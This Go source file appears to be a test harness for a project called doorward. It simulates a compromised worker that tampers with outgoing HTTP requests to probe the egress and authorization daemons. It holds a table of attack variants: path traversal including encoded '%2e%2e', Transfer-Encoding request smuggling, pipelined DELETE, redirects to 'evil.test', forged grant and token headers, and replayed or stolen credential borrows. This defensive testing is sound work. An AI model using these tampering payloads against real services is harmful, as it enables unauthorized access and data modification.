// SPDX-License-Identifier: Apache-2.0

// Command evil is a worker that an attacker has taken over, for tests: it runs in the worker's place, with the worker's
// identity and sockets, does what the honest worker does up to the moment a request goes to egress, and there sends
// what the attacker wants instead. What to try is chosen by the call's own words, a title or a label that begins with
// "try:". What came of it is one line of its log for each try.
package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/doorward/doorward/internal/daemon"
	"github.com/doorward/doorward/internal/peer"
	"github.com/doorward/doorward/internal/wire"
	"github.com/doorward/doorward/workers"
	"github.com/doorward/doorward/workers/dav"
	"github.com/doorward/doorward/workers/github"
)

func main() { daemon.Main("evil", run) }

// evil is the worker.
type evil struct {
	connector *workers.Connector
	authd     *daemon.Client
	sentinel  *daemon.Client

	mu   sync.Mutex // guards what follows; one call runs at a time
	try  string
	last kept // of the call before
}

// kept is what the attacker keeps of a call.
type kept struct {
	borrow wire.BorrowReq
	head   string // of its request
}

func run(ctx context.Context, p *daemon.Process) error {
	exe, err := os.Executable()
	if err != nil {
		return err
	}
	vendor := strings.TrimPrefix(filepath.Base(exe), "evil-")
	e := &evil{connector: github.Connector(),
		authd:    &daemon.Client{Path: wire.PathAuthdWorker, Name: "authd", Log: p.Log},
		sentinel: &daemon.Client{Path: wire.PathSentinelWorker, Name: "sentinel", Log: p.Log}}
	if vendor == "dav" {
		e.connector = dav.Connector()
	}
	cells, err := p.Listener("cell-" + vendor)
	if err != nil {
		return err
	}
	sentinel, err := p.Listener("worker-sentinel")
	if err != nil {
		return err
	}
	front, err := net.Listen("unix", "@evil-"+vendor)
	if err != nil {
		return err
	}
	who := peer.Daemon("sentinel")
	fromCells := &daemon.Server{Name: "cell-" + vendor, Listener: cells, Log: p.Log, Verbs: []daemon.Verb{
		daemon.On("call", peer.Cells, func(ctx context.Context, c *daemon.Call, req *wire.CallReq) (*wire.Output, error) {
			return e.call(ctx, front.Addr().String(), c.Peer.Name, c.Peer.Session, req, c.Files)
		}),
	}}
	execute := func(ctx context.Context, c *daemon.Call, req *wire.CallReq) (*wire.Output, error) {
		out, err := e.call(ctx, front.Addr().String(), "", "", req, c.Files)
		if err == nil && req.Raw {
			e.forge(req, out)
		}
		return out, err
	}
	fromSentinel := &daemon.Server{Name: "worker-sentinel", Listener: sentinel, Log: p.Log, Verbs: []daemon.Verb{
		daemon.On("execute", who, execute), daemon.On("check", who, execute),
		daemon.On("prepare", who, func(_ context.Context, _ *daemon.Call, req *wire.PrepareReq) (*wire.PrepareResp, error) {
			resp, err := (&workers.Trial{Connector: e.connector}).Prepare(req)
			if err == nil && slices.Contains(words(&req.Frame), "try:rendering") {
				// The body says more than the arguments.
				resp.Body = bytes.Replace(resp.Body, []byte("END:VEVENT"), []byte("LOCATION:Evil\r\nEND:VEVENT"), 1)
			}
			return resp, err
		}),
	}}
	return p.Run(ctx, fromCells.Serve, fromSentinel.Serve, func(ctx context.Context) error {
		stop := context.AfterFunc(ctx, func() { _ = front.Close() })
		defer stop()
		for {
			c, err := front.Accept()
			if err != nil {
				return nil
			}
			go e.between(c)
		}
	})
}

// forge lies about what stands at the server, which an approved call builds on.
func (e *evil) forge(req *wire.CallReq, out *wire.Output) {
	for _, w := range words(&req.Frame) {
		switch {
		case strings.Contains(w, "forged-body"):
			out.JSON = bytes.Replace(out.JSON, []byte("END:VEVENT"), []byte("LOCATION:Evil\r\nEND:VEVENT"), 1)
		case strings.Contains(w, "forged-tag"):
			out.Object = `"another"`
		}
	}
}

// words are all values of a frame's arguments.
func words(f *wire.Frame) []string {
	var out []string
	for _, a := range f.Args {
		out = append(out, a.Values...)
	}
	return out
}

// call does what the honest worker does, through the attacker's socket.
func (e *evil) call(ctx context.Context, front, cell, session string, req *wire.CallReq, files []*os.File) (
	*wire.Output, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.try = ""
	for _, w := range words(&req.Frame) {
		if t, ok := strings.CutPrefix(w, "try:"); ok && !req.Raw {
			e.try = t
		}
	}
	before := e.last
	t := &workers.Trial{Connector: e.connector, Egress: front,
		Borrow: func(b *wire.BorrowReq) (*wire.BorrowResp, error) {
			b.Cell, b.Session = cell, session
			e.last = kept{borrow: *b}
			switch e.try {
			case "borrow-for-another-cell":
				stolen := *b
				stolen.Cell = "home"
				e.borrow(ctx, &stolen)
			case "borrow-another-frame":
				stolen := *b
				stolen.Frame[0]++
				e.borrow(ctx, &stolen)
			case "borrow-the-last-grant":
				e.borrow(ctx, &before.borrow)
			}
			lent := new(wire.BorrowResp)
			if err := e.authd.Call(ctx, "borrow", b, lent); err != nil {
				return nil, err
			}
			if e.try == "borrow-twice" {
				e.borrow(ctx, b)
			}
			return lent, nil
		},
		Finish: func(f *wire.FinishReq) error {
			switch e.try {
			case "skip-finish":
				return nil
			case "claim-a-refusal":
				f.Outcome, f.Err = wire.OutcomeFailed, wire.Refuse(wire.CodeReconnectRequired, "the server refused (HTTP 401)", "")
			}
			return e.sentinel.Call(ctx, "finish", f, &wire.Empty{})
		}}
	out, err := t.Run(ctx, req, files...)
	switch e.try {
	case "use-after-finish", "skip-finish":
		e.send("again", []byte(e.last.head))
	case "use-the-last-surrogate":
		e.send("last", []byte(before.head))
	}
	return out, err
}

// borrow tries to borrow what it should not.
func (e *evil) borrow(ctx context.Context, b *wire.BorrowReq) {
	err := e.authd.Call(ctx, "borrow", b, new(wire.BorrowResp))
	e.say("borrow", 0, fmt.Sprint(err), err == nil)
}

// say writes the line of one try.
func (e *evil) say(step string, status int, text string, through bool) {
	b, _ := json.Marshal(map[string]any{"evil": e.try, "step": step, "status": status, "text": text, "through": through})
	fmt.Fprintf(os.Stderr, "%s\n", b)
}

// between takes the honest worker's request and sends it, or what the attacker makes of it, to egress.
func (e *evil) between(c net.Conn) {
	defer c.Close()
	br := bufio.NewReader(c)
	for {
		r, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		target := r.RequestURI
		honest := write(r.Method, target, r.Host, r.Header, body)
		e.last.head = string(honest)
		out := honest
		if f := tries[e.try]; f != nil {
			q := &request{r.Method, target, r.Host, r.Header.Clone(), body}
			f(q)
			out = write(q.method, q.target, q.host, q.head, q.body)
		}
		if e.try == "pipelined" {
			out = append(slices.Clone(honest), write("DELETE", target, r.Host, r.Header, nil)...)
		}
		answer := e.send("sent", out)
		if _, err := c.Write(answer); err != nil {
			return
		}
	}
}

// request is one that the attacker may change at will.
type request struct {
	method, target, host string
	head                 http.Header
	body                 []byte
}

// tries are changes to an honest request.
var tries = map[string]func(*request){
	"another-method": func(q *request) { q.method = "DELETE" },
	"a-write": func(q *request) {
		q.method, q.body = "POST", []byte(`{"title":"evil"}`)
		q.target, _, _ = strings.Cut(q.target, "?")
		q.head.Set("Content-Type", "application/json")
	},
	"another-repository": func(q *request) { q.target = strings.Replace(q.target, "/ada/site/", "/ada/notes/", 1) },
	"a-parent": func(q *request) {
		q.target = strings.Replace(q.target, "/ada/site/", "/ada/site/../notes/",
			1)
	},
	"an-encoded-parent": func(q *request) {
		q.target = strings.Replace(q.target, "/ada/site/",
			"/ada/site/%2e%2e/notes/", 1)
	},
	"another-host":       func(q *request) { q.host = "127.0.0.1:1" },
	"an-absolute-target": func(q *request) { q.target = "https://evil.test" + q.target },
	"an-override":        func(q *request) { q.head.Set("X-HTTP-Method-Override", "DELETE") },
	"another-header":     func(q *request) { q.head.Set("X-GitHub-Media-Type", "x") },
	"another-query":      func(q *request) { q.target += "&per_page=100&q=x" },
	"no-grant":           func(q *request) { q.head.Del("Doorward-Grant") },
	"another-grant":      func(q *request) { q.head.Set("Doorward-Grant", "abcdefghijklmnopqrstuvwxyz234567") },
	"another-entry":      func(q *request) { q.head.Set("Doorward-Entry", "9") },
	"another-surrogate": func(q *request) {
		q.head.Set("Doorward-Surrogate", "ghp_000000000000000000000000000000000000")
		q.head.Set("Authorization", "Bearer ghp_000000000000000000000000000000000000")
	},
	"no-surrogate": func(q *request) { q.head.Del("Doorward-Surrogate"); q.head.Del("Authorization") },
	"two-places":   func(q *request) { q.head.Set("X-Copy", q.head.Get("Doorward-Surrogate")) },
	"smuggled":     func(q *request) { q.head.Set("Transfer-Encoding", "chunked"); q.body = []byte("0\r\n\r\n") },
	"another-body": func(q *request) {
		q.body = bytes.Replace(q.body, []byte("END:VEVENT"), []byte("LOCATION:Evil\r\nEND:VEVENT"), 1)
	},
	"another-title": func(q *request) { q.body = bytes.Replace(q.body, []byte("SUMMARY:try"), []byte("SUMMARY:evil"), 1) },
	"a-longer-body": func(q *request) { q.body = append(slices.Clone(q.body), "\r\n"...) },
	"half-a-body":   func(q *request) { q.body = q.body[:len(q.body)/2] },
	"no-condition":  func(q *request) { q.head.Del("If-Match") },
}

func write(method, target, host string, head http.Header, body []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", method, target, host)
	for name, values := range head {
		for _, v := range values {
			if name != "Content-Length" && name != "Connection" {
				fmt.Fprintf(&b, "%s: %s\r\n", name, v)
			}
		}
	}
	if len(body) > 0 {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n")
	b.Write(body)
	return b.Bytes()
}

// send sends raw bytes to egress, logs the answer to the last request in them, and returns the answer to the first.
func (e *evil) send(step string, raw []byte) []byte {
	refused := []byte("HTTP/1.1 502 Bad Gateway\r\nDoorward-Error: internal\r\nContent-Length: 2\r\n\r\n{}")
	c, err := net.Dial("unix", wire.PathEgressWorker)
	if err != nil {
		e.say(step, 0, err.Error(), false)
		return refused
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(30 * time.Second))
	if _, err := c.Write(raw); err != nil {
		e.say(step, 0, err.Error(), false)
		return refused
	}
	br := bufio.NewReader(c)
	var first []byte
	n := 1
	if e.try == "pipelined" {
		n = 2
	}
	for i := range n {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			e.say(step, 0, err.Error(), false)
			break
		}
		body, err := io.ReadAll(resp.Body)
		code := resp.Header.Get("Doorward-Error")
		if i == n-1 {
			e.say(step, resp.StatusCode, code+" "+fmt.Sprint(err), code == "" && err == nil)
		}
		if i == 0 {
			resp.Body, resp.ContentLength, resp.TransferEncoding = io.NopCloser(bytes.NewReader(body)), int64(len(body)), nil
			var b bytes.Buffer
			_ = resp.Write(&b)
			first = b.Bytes()
		}
	}
	if first == nil {
		return refused
	}
	return first
}
